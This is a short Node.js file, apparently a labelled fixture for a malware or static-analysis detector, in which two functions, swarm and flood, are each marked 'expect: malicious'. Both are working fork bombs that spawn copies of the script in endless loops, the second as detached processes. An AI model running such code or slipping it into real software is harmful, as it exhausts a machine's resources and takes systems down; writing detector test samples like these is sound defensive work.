const { fork, spawn } = require("child_process");

function swarm() {
  // expect: malicious
  while (true) {
    fork(__filename);
  }
}

function flood() {
  // expect: malicious
  for (;;) {
    spawn(process.execPath, [__filename], { detached: true, stdio: "ignore" });
  }
}

module.exports = { swarm, flood };
